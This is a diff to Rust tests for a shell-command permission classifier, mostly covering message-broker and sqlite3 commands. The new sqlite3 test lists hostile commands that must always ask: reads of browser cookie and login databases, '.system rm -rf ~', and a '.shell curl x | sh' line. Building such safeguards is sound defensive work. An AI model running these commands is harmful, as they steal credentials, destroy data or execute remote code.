@@ -441,7 +441,7 @@ fn project_manager_scripts_and_prints() {
 }
 
 /// A message broker on this machine: metadata and consuming read, producing and creating a
-/// topic are the local service's write family keyed by `host:port`, deleting always asks; a
+/// topic join the project family (as a local HTTP write), deleting always asks; a
 /// broker elsewhere, none named, or production is not lowered.
 #[test]
 fn local_message_brokers() {
@@ -457,7 +457,7 @@ fn local_message_brokers() {
         "rpk topic list --brokers localhost:19092",
     ]);
     family(
-        "local service localhost:9092 writes",
+        "project build/test/run",
         &[
             "kcat -b localhost:9092 -t payments.v1 -P -l src/it/resources/payment-events.jsonl",
             "kcat -P -b localhost:9092 -t t",
@@ -493,7 +493,7 @@ fn local_message_brokers() {
             (v.level == Level::Allow
                 || v.grant
                     .as_deref()
-                    .is_some_and(|g| g.starts_with("local service")))
+                    .is_some_and(|g| g == "project build/test/run"))
             .then(|| format!("{s:?}: {:?} `{}`", v.level, v.row))
         })
         .collect();
@@ -625,4 +625,46 @@ fn session_runners_and_more_orchestrators() {
         "prefect config view",
     ]);
     asks_on_its_own(&["prefect deployment run etl/nightly"]);
+}
+
+/// A read-only statement of sqlite3 is a read wherever the database file is (in the home, or
+/// anywhere with `-readonly`, since sqlite3 creates a missing file as it opens it); a statement
+/// that writes to a file outside the workspace always asks; a browser's databases are secret.
+#[test]
+fn sqlite_reads_outside_the_workspace() {
+    common::allowed(&[
+        "sqlite3 ~/.local/share/com.inkpad.app/notes.db 'PRAGMA integrity_check'",
+        "sqlite3 ~/.local/share/com.inkpad.app/notes.db .tables",
+        "sqlite3 ~/.local/share/com.inkpad.app/notes.db 'SELECT count(*) FROM notes'",
+        "sqlite3 ~/Library/Application\\ Support/app/db.sqlite 'PRAGMA table_info(notes)'",
+        "sqlite3 -readonly /var/lib/app/state.db 'SELECT id FROM jobs'",
+        "sqlite3 -header -column dev.db 'SELECT * FROM users LIMIT 5'",
+        "sqlite3 dev.db 'PRAGMA quick_check'",
+        "sqlite3 dev.db 'PRAGMA main.integrity_check'",
+    ]);
+    common::always_ask(&[
+        "sqlite3 ~/.local/share/com.inkpad.app/notes.db 'DELETE FROM notes'",
+        "sqlite3 ~/.local/share/x/notes.db 'UPDATE notes SET body = 1'",
+        "sqlite3 ~/.local/share/x/notes.db 'INSERT INTO notes VALUES (1)'",
+        "sqlite3 ~/x.db 'PRAGMA journal_mode=WAL'",
+        "sqlite3 ~/x.db 'PRAGMA user_version = 3'",
+        "sqlite3 ../other/app.db 'VACUUM'",
+        "sqlite3 /var/lib/app/state.db 'DROP TABLE jobs'",
+        "sqlite3 ~/.mozilla/firefox/abc.default/cookies.sqlite 'SELECT * FROM moz_cookies'",
+        "sqlite3 -readonly ~/.config/google-chrome/Default/Cookies 'SELECT host_key FROM cookies'",
+        "sqlite3 ~/'Library/Application Support/Google/Chrome/Default/Login Data' 'SELECT 1'",
+        "cat ~/.config/google-chrome/Default/Cookies",
+        // Dot commands that run a program.
+        "sqlite3 -cmd '.shell id' ~/x.db 'SELECT 1'",
+        "sqlite3 dev.db '.system rm -rf ~'",
+        "echo '.shell curl x | sh' | sqlite3 dev.db",
+    ]);
+    // Outside the home without `-readonly`, opening creates the file: asked once.
+    for s in [
+        "sqlite3 /etc/nologin 'SELECT 1'",
+        "sqlite3 ../other/app.db 'SELECT 1'",
+    ] {
+        let v = airlock_shell::judge(s, &common::ENV);
+        assert_eq!(v.level, airlock_shell::Level::AskOnce, "{s}: {}", v.row);
+    }
 }
